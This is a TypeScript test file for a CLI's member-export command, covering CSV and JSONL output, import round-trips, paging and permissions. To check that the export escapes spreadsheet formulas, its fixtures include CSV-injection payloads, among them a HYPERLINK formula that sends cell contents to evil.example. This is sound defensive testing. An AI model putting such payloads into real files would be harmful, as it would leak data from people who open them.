import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../../src/commands/member/export.js';
import { run as importRun } from '../../../src/commands/member/import.js';
import { run as auditRun } from '../../../src/commands/audit/list.js';
import { run as listRun } from '../../../src/commands/member/list.js';
import { update } from '../../../src/domain/accounts.js';
import { ENGINES, failure, useFixture, type TestUser } from '../../helpers/services.js';

/** Cells a spreadsheet would run as a formula (OWASP), and their full-width forms. */
const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u;
/** E-mails Eve invites, each a cell a spreadsheet would run or one that looks already escaped. */
const HOSTILE = [
  '=cmd@example.com',
  '+1@example.com',
  '-x@example.com',
  "'quote@example.com",
  "'=y@example.com",
  "''@example.com",
  "'@example.com",
];

/**
 * member export's rules through run(), on both engines: the rows import reads, in list
 * order over many pages, export → import changing nothing, cells a spreadsheet would run,
 * who may export. The real process (exit status, stdout and stderr) is in
 * e2e/export.test.ts; sqld's response-size limit with a very large company in
 * e2e/lists.test.ts.
 */
describe.each(ENGINES)('member export run() on %s', (engine) => {
  const fx = useFixture(engine);
  let ann: TestUser, bob: TestUser, carol: TestUser, sue: TestUser, zed: TestUser, eve: TestUser, dan: TestUser;
  let zedEmails: string[];

  beforeAll(async () => {
    const f = fx();
    [ann, bob, carol, sue, zed, dan] = await f.registerAll([
      ['ann@example.com', 'Ann', 'Smith'],
      ['bob@example.com', 'Bob', 'Jones'],
      ['carol@example.com', 'Carol', 'Brown'],
      ['sue@example.com', 'Sue', 'Staff'],
      ['zed@example.com', 'Zed', 'Zed'],
      ['dan@example.com', 'Dan', 'Dean'],
    ]);
    await f.grantSupport(sue);
    await f.invite(ann, ['bob@example.com', 'zoë@example.com'], 'manager');
    // Zed Company: 2,500 members, more than two pages of 1,000.
    await f.setPlan(zed.company.id, 'ENTERPRISE');
    zedEmails = await f.fillCompany(zed.company.id, { registered: 100, pending: 2400 });
    // Eve's company holds e-mails and a name a spreadsheet would run.
    eve = await f.register('=eve@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)');
    await f.setPlan(eve.company.id, 'ENTERPRISE');
    await f.invite(eve, HOSTILE, 'DESIGNER');
  });

  const exportRows = async (
    who: TestUser | undefined,
    o: { company?: string; format?: string; json?: boolean } = {},
  ) => {
    const c = fx().call(who, { json: o.json });
    await run({ ...c.deps, company: o.company, format: o.format });
    return { out: c.stdout(), err: c.stderr() };
  };
  const importRows = async (
    who: TestUser,
    stdin: string,
    o: { company?: string; format?: string; continueOnError?: boolean } = {},
  ) => {
    const c = fx().call(who, { json: true, stdin });
    await importRun({
      ...c.deps,
      file: '-',
      company: o.company,
      format: o.format,
      dryRun: false,
      continueOnError: o.continueOnError ?? false,
    });
    return JSON.parse(c.stdout()) as Record<string, unknown>;
  };

  it('CSV by default: a header, then email,role,company for the OWNER first, then by e-mail (INVITED and PENDING too)', async () => {
    const id = ann.company.id;
    expect(await exportRows(ann)).toEqual({
      out: `email,role,company\nann@example.com,OWNER,${id}\nbob@example.com,MANAGER,${id}\nzoë@example.com,MANAGER,${id}\n`,
      err: '',
    });
  });

  it('--format jsonl: one object per line; --json changes nothing (the rows are the data); unknown formats are USAGE', async () => {
    const id = ann.company.id;
    const jsonl = await exportRows(ann, { format: ' JSONL ' });
    expect(
      jsonl.out
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual([
      { email: 'ann@example.com', role: 'OWNER', company: id },
      { email: 'bob@example.com', role: 'MANAGER', company: id },
      { email: 'zoë@example.com', role: 'MANAGER', company: id },
    ]);
    expect((await exportRows(ann, { json: true })).out).toBe((await exportRows(ann)).out);
    expect(await failure(exportRows(ann, { format: 'xlsx' }))).toMatchObject({
      code: 'USAGE',
      exitCode: 2,
      message: 'Unknown format "xlsx": use csv or jsonl.',
    });
  });

  it('export → import changes nothing, in both formats, and records no run', async () => {
    const id = ann.company.id;
    expect(await importRows(ann, (await exportRows(ann)).out)).toEqual({
      invited: 0,
      updated: 0,
      unchanged: 3,
      failed: 0,
      errors: [],
      applied: true,
      dryRun: false,
      companies: [expect.objectContaining({ id, unchanged: 3 })],
      // Nothing changed, so no run was recorded.
      run: null,
    });
    for (const format of ['csv', 'jsonl']) {
      const { out } = await exportRows(ann, { format });
      expect(await importRows(ann, out, { format }), format).toMatchObject({
        invited: 0,
        updated: 0,
        unchanged: 3,
        failed: 0,
      });
    }
  });

  it('a company larger than a page: every row once, in list order, and it imports back unchanged', async () => {
    const { out } = await exportRows(zed);
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toBe('email,role,company');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['zed@example.com', ...[...zedEmails].sort()]);
    expect(lines.slice(1).every((l) => l.endsWith(`,${zed.company.id}`))).toBe(true);
    expect(await importRows(zed, out)).toMatchObject({ invited: 0, updated: 0, unchanged: 2501, failed: 0 });
    const jsonl = (await exportRows(zed, { format: 'jsonl' })).out.trimEnd().split('\n');
    expect(jsonl.map((l) => (JSON.parse(l) as { email: string }).email)).toEqual(
      lines.slice(1).map((l) => l.split(',')[0]),
    );
  });

  it('cells a spreadsheet would run start with a quote, and import reads back exactly what is stored', async () => {
    const { out } = await exportRows(eve);
    const rows = parse(out);
    for (const cell of rows.slice(1).flat()) expect(cell, cell).not.toMatch(FORMULA);
    expect(out).toContain(`'=eve@example.com,OWNER,${eve.company.id}\n`);
    expect(out).toContain(`'+1@example.com,DESIGNER,`);
    expect(out).toContain(`'-x@example.com,DESIGNER,`);
    expect(out).toContain(`'quote@example.com,DESIGNER,`); // not a formula: as it is
    expect(out).toContain(`''=y@example.com,DESIGNER,`); // an escaped-looking cell gets one more quote
    expect(await importRows(eve, out)).toMatchObject({ invited: 0, updated: 0, unchanged: 8, failed: 0 });
    // Into another company (by SUPPORT, with --company): the same e-mails arrive, byte for byte.
    await fx().setPlan(carol.company.id, 'TEAM');
    const moved = await importRows(sue, out, { company: 'Brown Company' });
    expect(moved).toMatchObject({ invited: 7, unchanged: 1, failed: 0 }); // Eve's OWNER row is left as it is
    const there = (await exportRows(carol)).out;
    expect(
      parse(there)
        .slice(2)
        .map((r: string[]) => r[0]),
    ).toEqual(
      parse(out)
        .slice(2)
        .map((r: string[]) => r[0]),
    );
  });

  it('its rows moved into another company (by the company column, as SUPPORT) arrive byte for byte; the OWNER row cannot', async () => {
    const { out } = await exportRows(eve);
    await fx().setPlan(dan.company.id, 'TEAM');
    const moved = out.replace(new RegExp(`,${eve.company.id}$`, 'gm'), `,${dan.company.id}`);
    expect(moved).not.toBe(out);
    expect(await importRows(sue, moved, { continueOnError: true })).toMatchObject({ invited: 7, failed: 1 });
    const there: string[][] = parse((await exportRows(dan)).out);
    const sent: string[][] = parse(out);
    expect(there.slice(1).map((r) => r[0])).toEqual(['dan@example.com', ...sent.slice(2).map((r) => r[0])]);
    // What is stored there: exactly the e-mails Eve invited.
    const l = fx().call(dan, { json: true });
    await listRun({ ...l.deps, csv: false, all: true });
    expect((JSON.parse(l.stdout()) as { email: string }[]).map((m) => m.email).sort()).toEqual(
      ['dan@example.com', ...HOSTILE].sort(),
    );
  });

  it('any member may export once the invitation is accepted (as with member list), but a MANAGER may not import it; SUPPORT exports anywhere', async () => {
    const early = fx().call(bob);
    const e = await failure(run({ ...early.deps, company: String(ann.company.id) }));
    expect(e).toMatchObject({ code: 'PERMISSION_DENIED', exitCode: 4 });
    expect(e.message).toMatch(/^You are invited to "Smith Company" but have not accepted yet/);
    expect(early.stdout()).toBe('');
    await fx().switchTo(bob, ann.company.id);
    const csv = (await exportRows(ann)).out;
    expect((await exportRows(bob, { company: 'Smith Company' })).out).toBe(csv);
    expect((await exportRows(sue, { company: String(ann.company.id) })).out).toBe(csv);
    // Bob (MANAGER) imports the export back: every row is refused (exit 4), the report on stdout.
    const c = fx().call(bob, { json: true, stdin: csv });
    const denied = await failure(
      importRun({ ...c.deps, file: '-', company: undefined, format: undefined, dryRun: false, continueOnError: false }),
    );
    expect(denied).toMatchObject({ code: 'PERMISSION_DENIED', exitCode: 4 });
    expect((JSON.parse(c.stdout()) as { errors: { code: string }[] }).errors.map((x) => x.code)).toEqual([
      'PERMISSION_DENIED',
      'PERMISSION_DENIED',
      'PERMISSION_DENIED',
    ]);
    // Nothing changed through exports, imports of what was there and refusals: no member.import entry.
    const log = fx().call(ann, { json: true });
    await auditRun({ ...log.deps, all: true });
    expect((JSON.parse(log.stdout()) as { action: string }[]).filter((x) => x.action === 'member.import')).toEqual([]);
  });

  it('to others the company does not exist (exit 5), and nothing is written to stdout; signed out is exit 3', async () => {
    const c = fx().call(carol);
    const e = await failure(run({ ...c.deps, company: String(ann.company.id) }));
    expect(e).toMatchObject({ code: 'NOT_FOUND', exitCode: 5 });
    expect(c.stdout()).toBe('');
    expect(await failure(exportRows(undefined))).toMatchObject({ code: 'AUTH_REQUIRED', exitCode: 3 });
  });

  it('a company renamed to something CSV must quote is still exported by id, one cell per column', async () => {
    await update(fx().services, carol.cred, { companyName: 'Müller, "Söhne" & Co' });
    const rows = parse((await exportRows(carol)).out);
    expect(rows[0]).toEqual(['email', 'role', 'company']);
    expect(rows.slice(1).every((r) => r.length === 3 && r[2] === String(carol.company.id))).toBe(true);
  });
});
